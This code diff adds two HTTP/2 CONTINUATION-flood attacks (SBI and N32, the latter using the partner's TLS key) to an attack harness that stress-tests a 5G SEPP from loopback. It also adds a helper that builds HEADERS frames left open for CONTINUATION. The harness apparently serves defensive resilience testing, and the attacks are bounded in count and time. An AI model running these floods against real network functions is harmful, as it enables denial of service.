@@ -2,8 +2,19 @@
 // slow the legitimate load generator's clock): `bun scripts/abuse/attacker.ts <attack> <target JSON> <ms>` runs one
 // attack against the SEPP under attack for at most <ms>, from loopback only, and prints one JSON line with what
 // it saw. Every attack is bounded in count as well as in time.
-import { captureClientHello, clientPreface, n32TlsConn, PREFACE, tcpConn, type Conn, type Summary } from "./raw.ts";
-import { churn, controlFlood, holdSlots, rapidReset, trickle } from "./attacks-common.ts";
+import {
+  captureClientHello,
+  clientPreface,
+  frame,
+  FRAME,
+  headersFrame,
+  n32TlsConn,
+  PREFACE,
+  tcpConn,
+  type Conn,
+  type Summary,
+} from "./raw.ts";
+import { churn, continuationFlood, controlFlood, holdSlots, rapidReset, trickle } from "./attacks-common.ts";
 import { ATTACK_QUERY, type AttackTarget } from "./world.ts";
 
 /** the attacker's own loopback address on the SBI side (the legitimate NF uses 127.0.0.1) */
@@ -156,7 +167,38 @@ export const ATTACKS: Record<string, { what: string; run: Attack }> = {
         durationMs: ms,
       }),
   },
+  "sbi-continuation-flood": {
+    what: "SBI CONTINUATION flood: HEADERS without END_HEADERS, then empty CONTINUATION frames, 500 per write",
+    run: (t, ms) =>
+      continuationFlood(sbiTcp(t), (i) => openBlock(sbiGet(t)(i)), {
+        batch: 500,
+        maxFrames: 2_000_000,
+        durationMs: ms,
+        maxConns: 2000,
+        gapMs: 2,
+      }),
+  },
+  "n32-continuation-flood": {
+    what: "N32 CONTINUATION flood with the partner's key: HEADERS without END_HEADERS, then empty CONTINUATION frames",
+    run: (t, ms) =>
+      continuationFlood(
+        () => n32TlsConn(t, "partner"),
+        (i) =>
+          openBlock([
+            [":method", "POST"],
+            [":scheme", "https"],
+            [":path", `/n32f-forward/v1/n32f-process?${ATTACK_QUERY}&i=${i}`],
+            [":authority", t.n32Fqdn],
+          ]),
+        { batch: 500, maxFrames: 1_000_000, durationMs: ms, maxConns: 300, gapMs: 2 },
+      ),
+  },
 };
+
+/** A HEADERS frame on stream 1 that does not end its field block (END_STREAM only): CONTINUATION must follow. */
+function openBlock(headers: Array<[string, string]>): Buffer {
+  return frame(FRAME.HEADERS, 0x1, 1, headersFrame(1, headers).subarray(9));
+}
 
 if (import.meta.main) {
   const [name, targetJson, msArg] = process.argv.slice(2);
